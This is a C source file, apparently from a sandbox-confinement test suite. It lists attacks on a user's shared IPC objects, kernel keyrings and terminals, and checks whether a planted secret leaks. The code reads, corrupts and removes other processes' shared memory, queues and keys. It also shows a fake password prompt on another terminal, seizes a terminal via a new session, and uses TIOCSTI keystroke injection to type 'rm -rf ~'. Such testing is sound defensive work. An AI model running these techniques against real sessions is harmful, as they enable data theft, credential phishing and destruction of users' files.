/* SPDX-License-Identifier: Apache-2.0 */
/* Attacks on what all processes of one user share: SysV and POSIX objects, keys,
 * and other terminals. */

#include <errno.h>
#include <fcntl.h>
#include <mqueue.h>
#include <semaphore.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/msg.h>
#include <sys/sem.h>
#include <sys/shm.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <termios.h>
#include <unistd.h>

#include "attack.h"

#define KEYCTL_UPDATE 2
#define KEYCTL_REVOKE 3
#define KEYCTL_READ 11
#define USER_KEYRING -4

static void
shm_write(const struct world *w)
{
	char *at = shmat(w->shmid, NULL, 0);

	if (at != (void *)-1)
		memcpy(at, "spoilt", 7);
}

static void
shm_read(const struct world *w)
{
	char *at = shmat(w->shmid, NULL, SHM_RDONLY);

	if (at != (void *)-1)
		loot_if_secret(w, at, 64);
}

static void
shm_by_key(const struct world *w)
{
	char *at = shmat(shmget(w->key, 4096, 0600), NULL, 0);

	if (at != (void *)-1)
		memcpy(at, "spoilt", 7);
}

static void
shm_remove(const struct world *w)
{
	shmctl(w->shmid, IPC_RMID, NULL);
}

static void
shm_mode(const struct world *w)
{
	struct shmid_ds ds = { .shm_perm = { .uid = getuid(), .gid = getgid(), .mode = 0666 } };

	shmctl(w->shmid, IPC_SET, &ds);
}

static void
sem_set(const struct world *w)
{
	semctl(w->semid, 0, SETVAL, 7);
}

static void
sem_operate(const struct world *w)
{
	struct sembuf up = { 0, 3, 0 };

	semop(w->semid, &up, 1);
	semtimedop(w->semid, &up, 1, NULL);
}

static void
sem_by_key(const struct world *w)
{
	semctl(semget(w->key, 1, 0600), 0, SETVAL, 7);
}

static void
sem_remove(const struct world *w)
{
	semctl(w->semid, 0, IPC_RMID);
}

static void
sem_mode(const struct world *w)
{
	struct semid_ds ds = { .sem_perm = { .uid = getuid(), .gid = getgid(), .mode = 0666 } };

	semctl(w->semid, 0, IPC_SET, &ds);
}

static void
msg_send(const struct world *w)
{
	struct {
		long type;
		char text[8];
	} message = { 1, "spoilt" };

	msgsnd(w->msgid, &message, sizeof(message.text), IPC_NOWAIT);
}

static void
msg_receive(const struct world *w)
{
	struct {
		long type;
		char text[64];
	} message = { 0 };

	if (msgrcv(w->msgid, &message, sizeof(message.text), 0, IPC_NOWAIT) > 0)
		loot_if_secret(w, message.text, sizeof(message.text));
}

/* MSG_COPY leaves it there: only the loot tells. */
static void
msg_peek(const struct world *w)
{
	struct {
		long type;
		char text[64];
	} message = { 0 };

	if (msgrcv(w->msgid, &message, sizeof(message.text), 0, IPC_NOWAIT | 040000) > 0)
		loot_if_secret(w, message.text, sizeof(message.text));
	else if (w->plain)
		cannot("no MSG_COPY");
}

static void
msg_remove(const struct world *w)
{
	msgctl(msgget(w->key, 0600), IPC_RMID, NULL);
}

static void
mq_write(const struct world *w)
{
	mqd_t mq = mq_open(w->mq_name, O_WRONLY | O_NONBLOCK);

	mq_send(mq, "spoilt", 6, 0);
}

static void
mq_read(const struct world *w)
{
	char text[64] = "";
	mqd_t mq = mq_open(w->mq_name, O_RDONLY | O_NONBLOCK);

	if (mq_receive(mq, text, sizeof(text), NULL) > 0)
		loot_if_secret(w, text, sizeof(text));
}

static void
mq_create(const struct world *w)
{
	mqd_t mq = mq_open(w->mq_name, O_RDWR | O_NONBLOCK | O_CREAT, 0600, NULL);

	mq_send(mq, "spoilt", 6, 0);
}

static void
mq_remove(const struct world *w)
{
	mq_unlink(w->mq_name);
}

static void
posix_shm_write(const struct world *w)
{
	int fd = shm_open(w->shm_name, O_RDWR, 0600);

	(void)!write(fd, "spoilt", 6);
}

static void
posix_shm_remove(const struct world *w)
{
	shm_unlink(w->shm_name);
}

static void
posix_sem_post(const struct world *w)
{
	sem_t *sem = sem_open(w->shm_name, 0);

	if (sem != SEM_FAILED)
		sem_post(sem);
}

static void
posix_sem_remove(const struct world *w)
{
	sem_unlink(w->shm_name);
}

static void
need_key(const struct world *w)
{
	if (w->plain && w->keyring_key == 0)
		cannot("no keys here");
}

static void
key_update(const struct world *w)
{
	need_key(w);
	syscall(SYS_keyctl, KEYCTL_UPDATE, w->keyring_key, "spoilt", 6);
}

static void
key_revoke(const struct world *w)
{
	need_key(w);
	syscall(SYS_keyctl, KEYCTL_REVOKE, w->keyring_key);
}

static void
key_read(const struct world *w)
{
	char text[64] = "";

	need_key(w);
	if (syscall(SYS_keyctl, KEYCTL_READ, w->keyring_key, text, sizeof(text)) > 0)
		loot_if_secret(w, text, sizeof(text));
}

static void
key_replace(const struct world *w)
{
	need_key(w);
	syscall(SYS_add_key, "user", w->mq_name, "spoilt", 6, USER_KEYRING);
}

static void
key_request(const struct world *w)
{
	long key;
	char text[64] = "";

	need_key(w);
	key = syscall(SYS_request_key, "user", w->mq_name, NULL, 0);
	if (key > 0 && syscall(SYS_keyctl, KEYCTL_READ, key, text, sizeof(text)) > 0)
		loot_if_secret(w, text, sizeof(text));
	else if (w->plain)
		cannot("the user's keyring is not searched here");
}

/* ---- other terminals ---- */

static void
terminal_print(const struct world *w)
{
	int fd = open(w->terminal, O_WRONLY | O_NOCTTY | O_NONBLOCK);

	(void)!write(fd, "Password: ", 10);
}

static void
terminal_read(const struct world *w)
{
	char text[64] = "";
	int fd = open(w->terminal, O_RDONLY | O_NOCTTY | O_NONBLOCK);

	if (read(fd, text, sizeof(text)) > 0)
		loot_if_secret(w, text, sizeof(text));
}

/* A change of modes does not need a descriptor for writing. */
static void
terminal_modes(const struct world *w)
{
	struct termios modes;
	int fd = open(w->terminal, O_RDONLY | O_NOCTTY | O_NONBLOCK);

	if (tcgetattr(fd, &modes) < 0)
		return;
	modes.c_lflag ^= ICANON | ISIG;
	tcsetattr(fd, TCSANOW, &modes);
}

static void
terminal_size(const struct world *w)
{
	struct winsize size = { .ws_row = 3, .ws_col = 3 };
	int fd = open(w->terminal, O_RDONLY | O_NOCTTY | O_NONBLOCK);

	ioctl(fd, TIOCSWINSZ, &size);
}

static void
terminal_flush(const struct world *w)
{
	int fd = open(w->terminal, O_RDONLY | O_NOCTTY | O_NONBLOCK);

	tcflush(fd, TCIOFLUSH);
}

static void
terminal_chmod(const struct world *w)
{
	struct termios modes;
	int fd;

	chmod(w->terminal, 0666);
	fd = open(w->terminal, O_RDWR | O_NOCTTY | O_NONBLOCK);
	if (tcgetattr(fd, &modes) == 0)
		(void)!write(fd, "here", 4);
}

/* Its own terminal now, by being the first of a session without one. */
static void
terminal_steal(const struct world *w)
{
	pid_t pid = fork();

	if (pid == 0) {
		setsid();
		int fd = open(w->terminal, O_RDWR | O_NONBLOCK);

		ioctl(fd, TIOCSCTTY, 0);
		(void)!write(fd, "mine", 4);
		_exit(0);
	}
	reap(pid);
}

/* Typing as if the person did, on a terminal that is its own. */
static void
terminal_type(const struct world *w)
{
	bool typed = true;

	for (const char *c = "rm -rf ~\n"; *c != '\0'; c++)
		typed = ioctl(0, TIOCSTI, c) == 0 && typed;
	if (!typed && w->plain)
		cannot("the kernel has TIOCSTI switched off");
}

static void
terminal_type_high_bits(const struct world *w)
{
	if (syscall(SYS_ioctl, 0, 0x100000000UL | TIOCSTI, "x") < 0 && w->plain)
		cannot("the kernel has TIOCSTI switched off");
	(void)!syscall(SYS_ioctl, 0, 0x100000000UL | TIOCSTI, "\n");
}

static void
terminal_type_dev_tty(const struct world *w)
{
	int fd = open("/dev/tty", O_RDONLY);

	if (ioctl(fd, TIOCSTI, "x") < 0 && w->plain)
		cannot("the kernel has TIOCSTI switched off");
	ioctl(fd, TIOCSTI, "\n");
}

static const struct attack list[] = {
	{ "shm-write", shm_write, 0 },
	{ "shm-read", shm_read, 0 },
	{ "shm-by-key", shm_by_key, 0 },
	{ "shm-remove", shm_remove, 0 },
	{ "shm-mode", shm_mode, 0 },
	{ "sem-set", sem_set, 0 },
	{ "sem-operate", sem_operate, 0 },
	{ "sem-by-key", sem_by_key, 0 },
	{ "sem-remove", sem_remove, 0 },
	{ "sem-mode", sem_mode, 0 },
	{ "msg-send", msg_send, 0 },
	{ "msg-receive", msg_receive, 0 },
	{ "msg-peek", msg_peek, 0 },
	{ "msg-remove", msg_remove, 0 },
	{ "mq-send", mq_write, 0 },
	{ "mq-receive", mq_read, 0 },
	{ "mq-open-create", mq_create, 0 },
	{ "mq-unlink", mq_remove, 0 },
	{ "posix-shm-write", posix_shm_write, 0 },
	{ "posix-shm-unlink", posix_shm_remove, 0 },
	{ "posix-sem-post", posix_sem_post, 0 },
	{ "posix-sem-unlink", posix_sem_remove, 0 },
	{ "key-update", key_update, 0 },
	{ "key-revoke", key_revoke, 0 },
	{ "key-read", key_read, 0 },
	{ "key-replace", key_replace, 0 },
	{ "key-request", key_request, 0 },
	{ "terminal-print", terminal_print, 0 },
	{ "terminal-read", terminal_read, 0 },
	{ "terminal-modes", terminal_modes, 0 },
	{ "terminal-size", terminal_size, 0 },
	{ "terminal-flush", terminal_flush, 0 },
	{ "terminal-chmod", terminal_chmod, 0 },
	{ "terminal-steal", terminal_steal, 0 },
	{ "terminal-type", terminal_type, TERMINAL },
	{ "terminal-type-high-bits", terminal_type_high_bits, TERMINAL },
	{ "terminal-type-dev-tty", terminal_type_dev_tty, TERMINAL },
};

const struct attacks attacks_ipc = { list, COUNT(list) };
